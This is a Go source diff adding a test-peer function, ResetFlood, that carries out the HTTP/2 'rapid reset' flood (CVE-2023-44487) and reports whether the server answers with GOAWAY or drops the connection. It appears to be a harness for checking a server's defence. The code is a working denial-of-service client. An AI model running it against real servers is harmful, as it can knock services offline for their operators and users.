@@ -1,0 +1,71 @@
+package testpeer
+
+import (
+	"bytes"
+	"errors"
+	"io"
+	"net"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// ResetFlood is an HTTP/2 "rapid reset" client on c (CVE-2023-44487): the
+// client preface, then pairs of HEADERS (GET scheme://authority/, ending
+// the stream) and RST_STREAM(CANCEL) as fast as the connection takes them,
+// up to pairs, then a PING. It returns the error code of the server's
+// GOAWAY (goAway false when the PING's answer or the connection's end came
+// first), the pairs sent, and whether the connection then ended (false:
+// a read met c's deadline, which the caller sets).
+func ResetFlood(c net.Conn, scheme, authority string, pairs int) (code http2.ErrCode, goAway bool, sent int, ended bool) {
+	io.WriteString(c, http2.ClientPreface)
+	fr := http2.NewFramer(c, c)
+	fr.WriteSettings()
+	codes := make(chan http2.ErrCode, 1)
+	go func() {
+		defer close(codes)
+		rf := http2.NewFramer(io.Discard, c)
+		for {
+			fm, err := rf.ReadFrame()
+			if err != nil {
+				return
+			}
+			switch fm := fm.(type) {
+			case *http2.GoAwayFrame:
+				codes <- fm.ErrCode
+				return
+			case *http2.PingFrame:
+				if fm.IsAck() {
+					return
+				}
+			}
+		}
+	}()
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	for _, hf := range [][2]string{{":method", "GET"}, {":scheme", scheme}, {":path", "/"}, {":authority", authority}} {
+		enc.WriteField(hpack.HeaderField{Name: hf[0], Value: hf[1]})
+	}
+	for i := range pairs {
+		id := uint32(2*i + 1)
+		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
+			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+			break // the server hung up
+		}
+		sent++
+	}
+	fr.WritePing(false, [8]byte{1})
+	code, goAway = <-codes
+	// What the server still sends is read (a bounded amount) until the
+	// end; reaching c's deadline means the connection stayed open.
+	ended = true
+	var b [1]byte
+	for range 1000 {
+		if _, err := c.Read(b[:]); err != nil {
+			var ne net.Error
+			ended = !(errors.As(err, &ne) && ne.Timeout())
+			break
+		}
+	}
+	return code, goAway, sent, ended
+}
